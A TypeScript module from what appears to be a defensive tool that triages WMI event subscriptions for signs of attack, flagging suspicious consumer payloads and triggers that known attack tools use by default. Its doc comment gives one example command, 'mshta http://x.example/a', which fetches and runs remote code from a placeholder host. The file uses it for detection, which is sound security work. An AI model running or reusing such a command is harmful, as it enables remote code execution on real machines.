import type { ManifestEntry } from '../../exclusions';
import { judgePayload } from '../judgements/payload-judgements';
import type { Weight } from '../judgements/judgement';
import { readPayload } from '../payload/read-payload';
import { knownTriggers } from '../wql/known';
import { parseQuery } from '../wql/parser';

/** Something in a subscription that attacks have in common, or that changed while it was recorded. */
export interface Suspicion {
  /** The id of the judgement: of a payload one of those of `PAYLOAD_JUDGEMENTS`, else `trigger-known`, `query-changed`, `payload-changed`. */
  readonly kind: string;
  /** The part of the payload or of the query that shows it; of a change, how the value began before. */
  readonly found: string;
  /** What it says, in one clause. */
  readonly reason: string;
}

/** What only says that a consumer runs code, or names an ordinary address, is no reason to refuse it. */
const SUSPICIOUS: ReadonlySet<Weight> = new Set(['medium', 'high']);
/** Where a program lies says nothing by itself: management agents lie in ProgramData too. */
const PLACE = 'writable-path';
const MOST_SHOWN = 40;

/**
 * What in a subscription looks like an attack. It asks for a look and does not replace one.
 *
 * @param filter - the filter, with its query
 * @param consumer - the consumer, with what it runs
 * @returns one suspicion of each kind at most; none where nothing is found
 * @example
 * ```ts
 * import { suspicionsOf } from 'lib/triage';
 * suspicionsOf({ name: 'f', query: 'SELECT *' }, { type: 'Command Line', name: 'c', destination: 'mshta http://x.example/a' })[0]?.kind; // 'download'
 * ```
 */
export function suspicionsOf(
  { query }: ManifestEntry['filter'],
  { type, destination }: ManifestEntry['consumer'],
): readonly Suspicion[] {
  const found = new Map<string, Suspicion>();
  for (const { id, weight, excerpt, reason } of judgePayload(readPayload({ consumerType: type, destination }))) {
    if (SUSPICIOUS.has(weight) && !found.has(id)) {
      found.set(id, suspicion(id, excerpt, reason));
    }
  }
  const all = [...found.values(), ...triggerOf(query)];
  return all.some(({ kind }) => kind !== PLACE) ? all : [];
}

/**
 * A suspicion with as much of a value as a line has room for.
 *
 * @param kind - the id of the judgement
 * @param value - what shows it
 * @param reason - what it says
 * @returns the suspicion
 */
export function suspicion(kind: string, value: string, reason: string): Suspicion {
  return { kind, found: value.trim().slice(0, MOST_SHOWN), reason };
}

function triggerOf(query: string): readonly Suspicion[] {
  const parsed = parseQuery(query);
  const [known] =
    parsed.kind === 'query' && parsed.query.form === 'select'
      ? knownTriggers(parsed.query).filter(({ isOrdinary }) => !isOrdinary)
      : [];
  if (known === undefined) {
    return [];
  }
  const [tool = '', ...others] = known.tools;
  const tools = others.length === 0 ? tool : `${tool} and other tools`;
  return [suspicion('trigger-known', query, `this trigger is a default of ${tools}`)];
}
